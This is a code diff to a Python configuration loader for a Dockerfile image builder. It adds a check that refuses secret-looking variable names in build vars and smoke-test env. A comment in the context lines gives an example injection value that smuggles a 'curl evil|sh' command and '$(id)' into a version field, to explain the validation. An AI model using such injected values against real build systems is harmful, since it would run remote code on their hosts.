@@ -19,6 +19,7 @@ from typing import Any
 from . import source
 from .compat import CompatTable, Variant, os_python, torch_index_url
 from .errors import InputError, Where, did_you_mean, unknown_key
+from .redact import looks_secret
 
 # Strict patterns, one per kind of value. A value reaches Dockerfiles and shell lines only after
 # it matched one of these, so `2.6.0\nRUN curl evil|sh` or `$(id)` can never be rendered.
@@ -56,7 +57,7 @@ CASCADED_KEYS = (
     "nccl", "cudnn", "allow_major_override",
 )
 OVERRIDABLE = {"nccl": "nvidia-nccl-cu", "cudnn": "nvidia-cudnn-cu"}  # entry key -> wheel name prefix
-TOP_KEYS = ("version", "matrix", "exclude", "include", *CASCADED_KEYS)
+TOP_KEYS = ("version", "matrix", "exclude", "include", "not_secrets", *CASCADED_KEYS)
 BUILD_KEYS = ("ca_bundle", "wheelhouse", "pip_index_url", "index_url", "network", "cuda_toolkit")
 USER_KEYS = ("name", "uid", "gid", "workdir")
 SMOKE_KEYS = ("timeout", "shm_size", "gpus", "driver_dir", "throughput_floor", "cpu_gflops_floor", "env")
@@ -407,6 +408,7 @@ class _Loader:
         for k, v in sorted(self.mapping(merged_vars, ("vars",), tuple(merged_vars)).items()):
             if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]{0,63}", k):
                 raise self.fail(f"invalid variable name {k!r}", ("vars", k))
+            self.not_a_secret(top, k, ("vars", k))
             var_pairs.append((k, self.scalar(v, "var", ("vars", k))))
         overrides, resolved = self.overrides(top, combo, variant, label, where, build.torch_index_url)
         user = self.user(top, combo)
@@ -607,8 +609,19 @@ class _Loader:
         for k, v in sorted(raw_env.items()):
             if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]{0,127}", k):
                 raise self.fail(f"invalid variable name {k!r}", ("smoke", "env", k))
+            self.not_a_secret(top, k, ("smoke", "env", k))
             env.append((k, self.scalar(v, "var", ("smoke", "env", k))))
         return SmokeSettings(timeout, shm, gpus, driver_dir, floor, cpu_floor, tuple(env))
+
+    def not_a_secret(self, top: dict[str, Any], name: str, path: tuple[str | int, ...]) -> None:
+        """Values of `vars` reach Dockerfiles (and so the image history), `smoke.env` the report: a name that
+        looks like a secret is refused, unless the matrix lists it under `not_secrets:`."""
+        allowed = self.listof(top.get("not_secrets") or [], ("not_secrets",))
+        if looks_secret(name) and name not in allowed:
+            raise self.fail(
+                f"{name!r} looks like a secret; imagebuilder passes no secrets into images or reports", path,
+                hint="docker-py's builder has no secret mounts, so a build value ends up in the image history: "
+                     "give secrets to containers at run time; if it is not a secret, list it in `not_secrets:`")
 
     def tag_template(self, value: Any, path: tuple[str | int, ...]) -> str:
         if not isinstance(value, str) or not value:
